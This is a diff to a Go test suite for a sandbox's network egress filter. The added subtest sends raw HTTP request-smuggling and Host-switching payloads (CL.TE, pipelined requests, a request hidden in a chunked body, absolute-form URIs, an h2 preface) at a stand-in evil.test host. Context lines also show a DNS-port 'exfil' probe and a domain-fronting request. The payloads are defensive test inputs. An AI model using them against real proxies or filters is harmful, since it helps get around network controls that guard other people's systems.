@@ -358,6 +358,7 @@ s.sendto(b'exfil', ('`+wanIP+`', 53)); print(s.recv(100))"`, noPackets)
 		out, code := attempt(t, list, curl+"-k -H 'Host: evil.test' https://allowed.test/fronted")
 		t.Logf("domain fronting (accepted risk): exit %d, %q; wan saw %q", code, out, fn.since(m))
 	})
+	t.Run("every request on a name's connection", func(t *testing.T) { testEveryRequest(t, x, list) })
 	t.Run("late or missing name", func(t *testing.T) {
 		// To an address handed out for allowed.test, a stream that names
 		// no name (TLS without SNI, HTTP without Host), or names another
@@ -809,4 +810,103 @@ func testFlood(t *testing.T, x *netEnv, flooder, other *client.Sandbox) {
 	health()
 	x.reached(t, oe, curl+"http://allowed.test/after", "path=/after")
 	x.reached(t, flooder.Envd(), curl+"http://"+wanIP+"/flooder-after", "path=/flooder-after")
+}
+
+// pyRaw sends its first argument (a Python bytes literal) on one
+// connection to allowed.test:80 and prints everything the server sends
+// back until it closes or goes quiet.
+const pyRaw = `
+import socket, sys, ast
+c = socket.create_connection(('allowed.test', 80), 5)
+c.sendall(ast.literal_eval(sys.argv[1])); c.settimeout(3)
+out = b''
+try:
+    while True:
+        b = c.recv(65536)
+        if not b: break
+        out += b
+except Exception as e: print('error', e)
+print(out.decode('latin1'))
+`
+
+// testEveryRequest attacks the requests after, or instead of, an allowed
+// one on a connection admitted for allowed.test: the oracle is that the
+// client gets no answer from evil.test's virtual host and nothing for it
+// reaches the wan server.
+func testEveryRequest(t *testing.T, x *netEnv, list *client.Envd) {
+	sh(t, list, "getent ahosts allowed.test >/dev/null")
+	const ok = "GET /ok HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
+	for _, tc := range []struct {
+		name, payload string
+		// firstOK: the allowed request before the attack reaches the server.
+		firstOK bool
+	}{
+		{"pipelined second Host", ok + "GET /e1 HTTP/1.1\r\nHost: evil.test\r\n\r\n", true},
+		{"blank line first", "\r\nGET /e2 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", false},
+		{"PROPFIND", "PROPFIND /e3 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", false},
+		{"absolute-form", ok + "GET http://evil.test/e4 HTTP/1.1\r\nHost: allowed.test\r\n\r\n", true},
+		{"absolute-form alone", "GET http://evil.test/e5 HTTP/1.1\r\nHost: evil.test\r\n\r\n", false},
+		{"chunked body hides a request", "POST /ok HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n" +
+			"3\r\nabc\r\n0\r\n\r\nGET /e6 HTTP/1.1\r\nHost: evil.test\r\n\r\n", true},
+		{"CL.TE smuggling", "POST /ok HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n" +
+			"0\r\n\r\nGET /e7 HTTP/1.1\r\nHost: evil.test\r\n\r\n", false},
+		{"refused WebSocket upgrade, then another Host", "GET /ok HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n" +
+			"GET /e8 HTTP/1.1\r\nHost: evil.test\r\n\r\n", true},
+		{"Host is the address", "GET /e9 HTTP/1.1\r\nHost: " + wanIP + "\r\n\r\n", false},
+		{"h2 prior knowledge", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", false},
+	} {
+		m := x.fn.mark()
+		out, errs, st := run(t, list, client.ProcessSpec{Cmd: "python3", Args: []string{"-c", pyRaw, "b" + strconv.Quote(tc.payload)}})
+		t.Logf("%s: exit %d, %.300q %.200q", tc.name, st.ExitCode, out, errs)
+		if strings.Contains(out, "host=evil.test") || strings.Contains(out, "host="+wanIP) {
+			t.Errorf("%s: the client got an answer from another site: %q", tc.name, out)
+		}
+		time.Sleep(200 * time.Millisecond)
+		var reached []string
+		for _, l := range x.fn.since(m) {
+			switch {
+			case strings.HasPrefix(l, "syn "), strings.HasPrefix(l, "accept "):
+			case tc.firstOK && (strings.HasPrefix(l, "data ") || strings.Contains(l, "host=allowed.test path=/ok ")):
+			default:
+				reached = append(reached, l)
+			}
+		}
+		if len(reached) > 0 {
+			t.Errorf("%s: the wan server received:\n%s", tc.name, strings.Join(reached, "\n"))
+		}
+	}
+	// curl's own HTTP/2 over plain HTTP: prior knowledge and the h2c upgrade.
+	x.refused(t, list, curl+"--http2-prior-knowledge http://allowed.test/h2pk", noPayload)
+	x.refused(t, list, curl+"--http2 http://allowed.test/h2c", noPayload)
+
+	// The control: a kept-alive connection with several allowed requests,
+	// a chunked POST and one with Content-Length, and a blank line.
+	m := x.fn.mark()
+	out, errs, st := run(t, list, client.ProcessSpec{Cmd: "python3", Args: []string{"-c", `
+import http.client
+c = http.client.HTTPConnection('allowed.test', 80, timeout=5)
+for method, path, body, chunked in (('GET', '/k1', None, False), ('POST', '/k2', iter([b'abc', b'defg']), True),
+                                    ('POST', '/k3', b'hello', False), ('DELETE', '/k4', None, False)):
+    c.request(method, path, body=body, encode_chunked=chunked)
+    r = c.getresponse(); print(r.status, r.read().decode().strip())
+c.sock.sendall(b'\r\n')
+c.request('GET', '/k5'); r = c.getresponse(); print(r.status, r.read().decode().strip())
+`}})
+	if st.ExitCode != 0 {
+		t.Fatalf("keep-alive control: exit %d, %q %q", st.ExitCode, out, errs)
+	}
+	for _, p := range []string{"/k1", "/k2", "/k3", "/k4", "/k5"} {
+		if !strings.Contains(out, "200 hello from wan host=allowed.test path="+p) {
+			t.Errorf("keep-alive control: no answer for %s in %q", p, out)
+		}
+	}
+	accepts := 0
+	for _, l := range x.fn.since(m) {
+		if strings.HasPrefix(l, "accept ") {
+			accepts++
+		}
+	}
+	if accepts != 1 {
+		t.Errorf("keep-alive control: %d connections reached the wan server, want 1", accepts)
+	}
 }
